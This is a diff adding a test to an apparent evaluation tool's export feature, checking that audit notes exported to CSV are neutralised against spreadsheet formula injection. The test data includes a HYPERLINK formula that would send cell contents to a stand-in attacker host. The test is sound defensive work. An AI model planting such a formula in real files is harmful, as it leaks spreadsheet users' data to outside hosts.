@@ -99,3 +99,27 @@ def test_a_formula_label_is_neutralised_in_csv(project: Store, runs: dict[str, s
     cells = Counter(r["label"] for r in rows)
     assert "'" + FORMULA in cells and FORMULA not in cells  # no live formula
     assert Counter(csv_value(c) for c in cells.elements()) == Counter(r.label for r in project.judging.scores(all_labels=True))
+
+
+def test_audits_export_current_item_audits_flat_and_csv_safe(project: Store, runs: dict[str, str], tmp_path: Path,
+                                                             capsys: pytest.CaptureFixture[str]) -> None:
+    """`export --what audits`: the current item audits of the chosen runs, one flat row each (a re-answer replaces
+    the earlier one; `annotations` keeps both); a note a spreadsheet would run is neutralised in CSV, exact in JSONL."""
+    traj = project.judging.judgments(judge="probe", labels={"probe": runs["new"]})[0]
+    note = '=HYPERLINK("http://evil.test/?"&A1,"x")'
+    record_item_audit(project, trajectory_id=traj.trajectory_id, item_id=traj.item_id, judge="probe",
+                      reviewer="alice", agree=False, corrected_verdict="No", note=note)
+    code, out, _ = _export(capsys, project.path, "--what", "audits")
+    [row] = _jsonl(out)
+    assert code == 0 and row["label"] == runs["new"] and row["note"] == note
+    assert (row["trajectory_id"], row["item_id"], row["judge"], row["rater"]) == (traj.trajectory_id, traj.item_id,
+                                                                                 "probe", "alice")
+    assert row["agree"] is False and row["corrected_verdict"] == "No"
+    code, out, _ = _export(capsys, project.path, "--what", "audits", "--all-runs")
+    assert code == 0 and sorted(r["label"] for r in _jsonl(out)) == sorted([runs["old"], runs["new"]])
+    path = tmp_path / "audits.csv"
+    code, _, err = _export(capsys, project.path, "--what", "audits", "--format", "csv", "--out", str(path))
+    assert code == 0 and "exported 1 audits rows" in err
+    [cells] = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    assert cells["note"] == "'" + note and csv_value(cells["note"]) == note  # no live formula, and reversible
+    assert cells["label"] == "'" + FORMULA
